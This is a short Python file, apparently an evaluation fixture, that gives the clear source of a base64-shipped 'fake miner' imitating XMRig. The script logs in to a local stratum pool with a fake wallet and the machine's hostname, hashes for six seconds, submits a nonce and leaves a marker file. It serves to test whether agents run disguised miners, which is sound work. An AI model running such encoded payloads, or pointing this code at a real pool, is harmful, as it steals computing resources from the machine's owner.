# Clear source of the "miner" malicious/fake-miner starts (shipped base64
# encoded).  It stands in for XMRig: logs in to a mining pool with the
# stratum protocol, hashes for a few seconds, leaves a marker.  Acts only
# inside the evaluation: the pool is 127.0.0.1 at SP_SINK_PORT.
import hashlib, json, os, socket, time
e = os.environ
if e.get("SP_TOKEN") and e.get("SP_SINK_PORT"):
    s = socket.create_connection(("127.0.0.1", int(e["SP_SINK_PORT"])), 10)
    s.sendall((json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": {
        "login": "4SPFAKEWALLET" + e["SP_TOKEN"], "pass": socket.gethostname(),
        "agent": "XMRig/6.21.0 (Linux x86_64)"}}) + "\n").encode())
    n, end, h = 0, time.time() + 6, b"x"
    while time.time() < end:
        h = hashlib.sha256(h).digest()
        n += 1
    s.sendall(('{"id":2,"method":"submit","params":{"nonce":"%08x"}}\n' % (n & 0xffffffff)).encode())
    s.close()
    open(os.path.join(e["SP_MARK"], "miner.ran"), "w").write("hashes %d\n" % n)
